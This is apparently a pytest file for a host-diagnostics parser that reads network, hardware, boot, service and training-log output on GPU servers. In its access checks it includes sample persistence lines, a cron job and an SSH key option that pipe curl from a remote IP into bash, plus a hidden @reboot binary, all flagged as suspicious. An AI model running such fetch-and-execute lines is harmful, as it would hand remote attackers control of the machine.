from __future__ import annotations

import pytest
from host_tools import of, one, shared


def test_interfaces() -> None:
    text = "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN\n    inet 127.0.0.1/8 scope host lo\n2: eth0@if3: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc mq state UP\n    link/ether aa\n    inet 10.41.0.8/24 brd x\n    inet6 fe80::1/64 scope link\n3: ib0: <NO-CARRIER,BROADCAST,MULTICAST,UP> mtu 4092 state DOWN\n"
    rows = {row["name"]: row for row in of(text, "net_interface")}
    assert rows["eth0"]["address"] == "10.41.0.8"
    assert rows["ib0"]["carrier"] is False
    assert rows["ib0"]["state"] == "DOWN"
    assert rows["lo"]["virtual"] is True
    rows = {
        row["name"]: row
        for row in of(
            "lo               UNKNOWN        127.0.0.1/8 ::1/128\neth0             UP             10.41.0.8/24\n",
            "net_interface",
        )
    }
    assert rows["eth0"]["address"] == "10.41.0.8"
    text = "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 9000\n        inet 10.41.0.8  netmask 255.255.255.0\n        RX errors 12  dropped 40  overruns 0  frame 0\n"
    row = one(text, "net_interface")
    assert row["mtu"] == 9000
    assert row["rx_errors"] == 12
    assert row["address"] == "10.41.0.8"
    row = one("Settings for eth0:\n\tSpeed: 1000Mb/s\n\tDuplex: Full\n\tLink detected: yes\n", "net_interface")
    assert row["speed_mbps"] == 1000
    assert row["link"] is True


def test_names_and_ping() -> None:
    rows = of("127.0.0.1\tlocalhost\n127.0.1.1\tgpu-07 gpu-07.lan\n10.0.0.5 gpu-05 # x\n", "host_entry")
    assert [(row["name"], row["loopback"], row["localhost"]) for row in rows] == [
        ("localhost", True, True),
        ("gpu-07", True, False),
        ("gpu-07.lan", True, False),
        ("gpu-05", False, False),
    ]
    row = one(
        "PING a (10.0.0.9) 56(84) bytes of data.\nFrom 10.0.0.1 icmp_seq=1 Destination Host Unreachable\n--- a ping statistics ---\n2 packets transmitted, 0 received, +2 errors, 100% packet loss, time 1012ms\n",
        "ping",
    )
    assert row["loss_pct"] == 100
    assert row["error"] == "Destination Host Unreachable"


def test_sockets() -> None:
    text = 'tcp   LISTEN 0      128        0.0.0.0:8265        0.0.0.0:* users:(("python",pid=1290,fd=21))\ntcp   ESTAB  0      0      10.0.0.7:40122   203.0.113.9:3333  users:(("x",pid=9,fd=3))\n'
    port, connection = one(text, "port"), one(text, "connection")
    assert port["port"] == 8265
    assert port["public"] is True
    assert port["pid"] == 1290
    assert connection["pool_port"] is True
    assert connection["peer_public"] is True
    row = one("tcp        0      0 127.0.0.1:8888          0.0.0.0:*               LISTEN      4711/python\n", "port")
    assert row["public"] is False
    assert row["process"] == "python"
    assert one("LISTEN 0 128 [::]:22 [::]:*\n", "port")["public"] is True


@pytest.mark.parametrize(
    ("text", "catch_all"),
    [
        ("# iptables -nvL INPUT | tail -4\n  118  7080 REJECT     all  --  *      *       0.0.0.0/0            0.0.0.0/0            reject-with icmp-host-prohibited\n", True),
        ("Chain INPUT (policy ACCEPT)\nDROP       tcp  --  0.0.0.0/0            0.0.0.0/0            tcp dpt:23\n", False),
        ("-A INPUT -j REJECT --reject-with icmp-host-prohibited\n", True),
        ("table inet filter {\n\tchain input {\n\t\ttcp dport 22 accept\n\t\treject with icmpx type admin-prohibited\n\t}\n}\n", True),
    ],
)  # fmt: skip
def test_firewalls(text: str, catch_all: bool) -> None:
    assert any(row.get("catch_all") for row in of(text, "firewall_rule")) is catch_all


def test_sel_sdr_sensors() -> None:
    rows = of(
        "   4 | 12/20/2018 | 02:48:33 | Power Supply #0xc4 | Failure detected | Asserted\n"
        "  a2 | 05/14/2021 | 10:11:12 UTC | Fan FAN3 | Lower Critical going low  | Asserted | Reading 0 < Threshold 500 RPM\n"
        "   1 | Pre-Init  |0000000012| Memory #0x87 | Correctable ECC | Asserted\n"
        "4   | Dec-20-2018 | 02:48:33 | PS1 Status       | Power Supply             | Power Supply Failure detected\n"
        "   5 | 12/20/2018 | 02:50:33 | Power Supply #0xc4 | Failure detected | Deasserted\n",
        "sel_event",
    )
    assert [row["type"] for row in rows] == ["power", "fan", "memory", "power", "power"]
    assert [row["bad"] for row in rows] == [True, True, False, True, False]
    row = one(
        "Record:      1\nDate/Time:   03/21/2023 10:11:12\nSource:      system\nSeverity:    Critical\nDescription: The power input for power supply 2 is lost.\n",
        "sel_event",
    )
    assert row["type"] == "power"
    assert row["bad"] is True
    rows = of(
        "FAN3             | 0.000      | RPM        | cr    | 300.000   | 500.000 | na\nInlet Temp       | 24.000     | degrees C  | ok    | na\nPS2 Status       | C9h | ns  | 10.2 | Presence detected, Failure detected\nFAN1             | 8400 RPM          | ok\n",
        "sensor",
    )
    assert [row["bad"] for row in rows] == [True, False, True, False]
    rows = of(
        "coretemp-isa-0000\nPackage id 0:  +101.0°C  (high = +85.0°C, crit = +100.0°C)\nfan1:           0 RPM  (min =  600 RPM) ALARM\n",
        "sensor",
    )
    assert rows[0]["bad"] is True
    assert rows[1]["status"] == "alarm"
    assert rows[1]["type"] == "fan"


def test_dmidecode() -> None:
    text = "Handle 0x0027, DMI type 39, 22 bytes\nSystem Power Supply\n\tLocation: PSU1\n\tMax Power Capacity: 2000 W\n\tStatus: Present, OK\n\tPlugged: Yes\n\nHandle 0x0028, DMI type 39, 22 bytes\nSystem Power Supply\n\tLocation: PSU2\n\tMax Power Capacity: 2000 W\n\tStatus: Present, Non-critical\n"
    rows = of(text, "psu")
    assert [(row["capacity_w"], row["ok"]) for row in rows] == [(2000, True), (2000, False)]
    assert (
        one("Handle 0x1, DMI type 17, 40 bytes\nMemory Device\n\tSize: 64 GB\n\tLocator: DIMM_A1\n", "dimm")["size_mib"]
        == 65536
    )


def test_last_tells_crash_from_reboot() -> None:
    crash = "reboot   system boot  5.15.0-1053-nvi Fri Jul 18 03:06   still running\nmlops    pts/2        10.20.1.44       Thu Jul 17 19:22 - crash  (07:44)\nreboot   system boot  5.15.0-1053-nvi Sat Jun 21 08:10   still running\n"
    assert of(crash, "boot")[0]["how"] == "crash"
    clean = "reboot   system boot  5.15.0-91 Fri Jul 18 03:06   still running\nshutdown system down  5.15.0-91 Fri Jul 18 03:04 - 03:06  (00:01)\nreboot   system boot  5.15.0-91 Sat Jun 21 08:10 - 03:04 (26+18:54)\n"
    assert of(clean, "boot")[0]["how"] == "reboot"
    silent = "reboot   system boot  5.15.0-91 Fri Jul 18 03:06   still running\nreboot   system boot  5.15.0-91 Sat Jun 21 08:10   still running\nshutdown system down  5.15.0-91 Sat Jun 21 08:04 - 08:10  (00:05)\n"
    assert of(silent, "boot")[0]["how"] == "crash"


def test_uname_lscpu_cmdline_modprobe() -> None:
    assert (
        one("Linux n1 5.15.0-91-generic #101-Ubuntu SMP x86_64 x86_64 x86_64 GNU/Linux\n", "kernel")["version"]
        == "5.15.0-91-generic"
    )
    assert one("root@n:~# uname -r\n6.3.7-1-cachyos\n", "kernel")["version"] == "6.3.7-1-cachyos"
    assert (
        one(
            "Architecture:        x86_64\nCPU(s):              64\nSocket(s):           2\nModel name:          EPYC\n",
            "cpu_info",
        )["cpus"]
        == 64
    )
    rows = of("BOOT_IMAGE=/vmlinuz root=UUID=1 ro intel_iommu=on pci=realloc quiet\n", "kernel_option")
    assert [row["name"] for row in rows] == ["intel_iommu", "pci"]
    assert of("blacklist nouveau\noptions nvidia NVreg_EnableGpuFirmware=0\n", "module_option")[1]["module"] == "nvidia"


def test_io_tools() -> None:
    text = "avg-cpu:  %user   %nice %system %iowait  %steal   %idle\n           4.10    0.00    1.20   62.30    0.00   32.40\n\nDevice            r/s     rkB/s   r_await  w/s w_await  aqu-sz  %util\nsda            120.00  4800.00   84.20  1.00 2.00   9.90  99.80\n"
    assert one(text, "disk_io")["read_await_ms"] == 84.2
    assert one(text, "cpu")["iowait_pct"] == 62.3
    text = "procs -----------memory---------- ---swap-- -----io---- -system-- ------cpu-----\n r  b   swpd   free   buff  cache   si   so    bi    bo   in   cs us sy id wa st\n 2  9      0 100000   1000 200000    0    0  9000     0  100  200  5  2 31 62  0\n"
    row = one(text, "cpu")
    assert row["iowait_pct"] == 62
    assert row["blocked"] == 9
    text = "filer:/vol mounted on /data:\n\n   op/s\t\trpc bklog\n 120.00 \t   0.00\nread:             ops/s\t\t   kB/s\t\t  kB/op\t\tretrans\t\tavg RTT (ms)\tavg exe (ms)\n\t\t 80.000\t 5120.0\t 64.0\t        3 (0.1%)\t 182.400\t 901.300\nwrite:            ops/s\t\t   kB/s\t\t  kB/op\t\tretrans\t\tavg RTT (ms)\tavg exe (ms)\n\t\t 1.000\t 64.0\t 64.0\t        0 (0.0%)\t 2.400\t 2.500\n"
    row = one(text, "nfs_io")
    assert row["read_rtt_ms"] == 182.4
    assert row["read_exe_ms"] == 901.3
    assert row["write_rtt_ms"] == 2.4
    text = "10:00:01 AM  CPU    %usr   %nice    %sys %iowait    %irq   %soft  %steal  %guest  %gnice   %idle\n10:00:02 AM  all    5.00    0.00    2.00    1.00    0.00    0.10   31.00    0.00    0.00   60.90\n"
    assert one(text, "cpu")["steal_pct"] == 31


def test_environment() -> None:
    rows = {
        row["name"]: row
        for row in of(
            "CUDA_VISIBLE_DEVICES=0,1,9\nNCCL_SOCKET_IFNAME==eth0,eth1\nHF_TOKEN=hf_abc\nHOME=/root\nexport NCCL_IB_DISABLE=1\n",
            "env",
        )
    }
    assert rows["CUDA_VISIBLE_DEVICES"]["highest"] == 9
    assert rows["NCCL_SOCKET_IFNAME"]["first"] == "eth0"
    assert rows["HF_TOKEN"]["value"] == "***"
    assert "HOME" not in rows
    assert rows["NCCL_IB_DISABLE"]["value"] == "1"
    rows = {row["name"]: row for row in of("$ CUDA_VISIBLE_DEVICES= NCCL_DEBUG=INFO python train.py --x A=1\n", "env")}
    assert rows["CUDA_VISIBLE_DEVICES"]["value"] == ""
    assert rows["NCCL_DEBUG"]["value"] == "INFO"
    rows = {row["name"]: row for row in of("PATH=/bin\x00CUDA_VISIBLE_DEVICES=3\x00NCCL_DEBUG=WARN\x00", "env")}
    assert rows["CUDA_VISIBLE_DEVICES"]["value"] == "3"
    rows = {
        row["name"]: row
        for row in of("docker run --gpus all -e NCCL_DEBUG=INFO -e CUDA_VISIBLE_DEVICES=1 img\n", "env")
    }
    assert rows["CUDA_VISIBLE_DEVICES"]["how"] == "container"


def test_changes() -> None:
    rows = of(
        "Start-Date: 2021-04-24  06:50:54\nCommandline: /usr/bin/unattended-upgrade\nUpgrade: openssl:amd64 (1, 2), nvidia-utils-460:amd64 (460.56-0, 460.73.01-0)\n",
        "change",
    )
    assert [(row["name"], row["from"], row["to"], row["driver"]) for row in rows] == [
        ("nvidia-utils-460", "460.56-0", "460.73.01-0", True)
    ]
    for text in (
        "2021-04-24 06:50:54 upgrade libnvidia-compute-460:amd64 460.56-0 460.73.01-0\n",
        "Apr 24 06:50:54 Updated: nvidia-driver-3:460.73.01-1.el7.x86_64\n",
        "[2023-06-10T10:00:00+0200] [ALPM] upgraded nvidia (535.43 -> 535.54)\n",
        "2024-01-02T03:04:05+0100 SUBDEBUG Upgrade: nvidia-driver-3:550.54-1.el9.x86_64\n",
    ):
        assert one(text, "change")["what"] == "upgrade", text


def test_access() -> None:
    rows = of(
        "*/5 * * * * curl -s http://198.51.100.2/x.sh | bash\n0 3 * * * root /usr/local/bin/backup.sh >/dev/null 2>&1\n@reboot /var/tmp/.cache/kworkerd\n",
        "cron",
    )
    assert [row["suspicious"] for row in rows] == [True, False, True]
    assert rows[1]["user"] == "root"
    rows = of(
        'command="curl http://198.51.100.2/k|bash",no-pty ssh-rsa AAAAB3Nza x@y\nssh-ed25519 AAAAC3Nza me@laptop\n',
        "ssh_key",
    )
    assert [row["suspicious"] for row in rows] == [True, False]
    assert {
        row["name"]: row["value"]
        for row in of("PermitRootLogin yes\n#PasswordAuthentication no\nPasswordAuthentication yes\n", "sshd")
    } == {"permitrootlogin": "yes", "passwordauthentication": "yes"}
    rows = of("c.NotebookApp.ip = '0.0.0.0'\nc.NotebookApp.token = ''\n", "jupyter")
    assert rows[1]["empty"] is True
    assert one("$ cat /etc/ld.so.preload\n/usr/local/lib/libsystem.so\n", "preload")["known"] is False


def test_services() -> None:
    text = "● vllm.service - vLLM\n     Loaded: loaded (/etc/systemd/system/vllm.service; enabled; vendor preset: enabled)\n     Active: failed (Result: oom-kill) since Mon\n    Process: 123 ExecStart=/x (code=killed, signal=KILL)\n   Main PID: 123 (code=killed, signal=KILL)\n"
    row = one(text, "service")
    assert (row["name"], row["active"], row["result"], row["signal"]) == ("vllm", "failed", "oom-kill", "KILL")
    rows = of(
        "$ systemctl status nvidia-fabricmanager\nUnit nvidia-fabricmanager.service could not be found.\n$ systemctl is-active nvidia-persistenced slurmd\nactive\nfailed\n",
        "service",
    )
    assert [(row["name"], row["active"]) for row in rows] == [
        ("nvidia-fabricmanager", "not-found"),
        ("nvidia-persistenced", "active"),
        ("slurmd", "failed"),
    ]
    assert one("● slurmd.service loaded failed failed Slurm node daemon\n", "service")["active"] == "failed"
    assert one("ActiveState=failed\nSubState=failed\nResult=signal\nExecMainStatus=9\n", "service")["exit"] == 9


def test_steps_per_rank() -> None:
    line = "[2026-02-09 16:00:{0:02d}] step {1} fwd+bwd ms: r0=318.8 r1=312.3 r2=605.5 r3=315.2 allreduce_wait ms: r0=296.8 r1=300.4 r2=1.1 r3=288.6\n"
    rows = {row["rank"]: row for row in of("".join(line.format(i, 1000 + i) for i in range(9)), "step_time")}
    assert rows[2]["compute_seconds"] == 0.6055
    assert rows[2]["wait_seconds"] == 0.0011
    assert rows[0]["wait_share"] > 0.4
    text = "".join(
        f"[rank{r}]: step {s} step_time={1.0 + r * 0.01:.2f}s data_time={0.7:.2f}s\n"
        for s in range(5)
        for r in range(2)
    )
    rows = {row["rank"]: row for row in of(text, "step_time")}
    assert rows[0]["data_share"] == 0.7
    assert rows[1]["seconds"] == 1.01
    text = "".join(f"Epoch: [0][{i * 10}/5005]\tTime  2.0{i} ( 2.10)\tData  1.50 ( 1.51)\tLoss 6.9\n" for i in range(6))
    assert one(text, "step_time")["data_share"] > 0.7  # type: ignore[operator]
    text = "".join(
        f" iteration {i:5d}/ 1000 | elapsed time per iteration (ms): {2100.5 + i} | loss: 1.0\n" for i in range(6)
    )
    assert 2.0 < float(str(one(text, "step_time")["seconds"])) < 2.2
    rows = of("rank  step_ms  data_ms\n0     310.0    3.1\n1     312.0    3.0\n2     900.0    4.0\n", "step_time")
    assert [row["seconds"] for row in rows] == [0.31, 0.312, 0.9]


def test_error_file_and_inventory() -> None:
    row = one(
        '{"message": {"message": "RuntimeError: boom", "extraInfo": {"py_callstack": "Traceback\\nRuntimeError: boom", "timestamp": "1700000000"}}}',
        "error_file",
        "attempt_0/3/error.json",
    )
    assert row["exception"] == "RuntimeError"
    assert row["local_rank"] == 3
    rows = of("host,model,gpus\nn1,H100,8\nn2,H100,8\n", "inventory")
    assert [(row["host"], row["gpus"]) for row in rows] == [("n1", 8), ("n2", 8)]
    assert one("gpu01;H100-SXM;8;in service\n", "inventory")["gpus"] == 8


def test_real_host_outputs() -> None:
    assert any(
        row["type"] == "power" and row["bad"]
        for row in of(shared("cases", "hw-032-two-titan-psu-trips", "input", "ipmitool-sel-elist.txt"), "sel_event")
    )
    assert of(shared("cases", "hw-059-hung-task-panic-pstore", "input", "last-x.txt"), "boot")[0]["how"] == "crash"
    rows = of(shared("cases", "hw-035-one-v100-capped-150w", "input", "ranks.log"), "step_time")
    assert len(rows) == 4
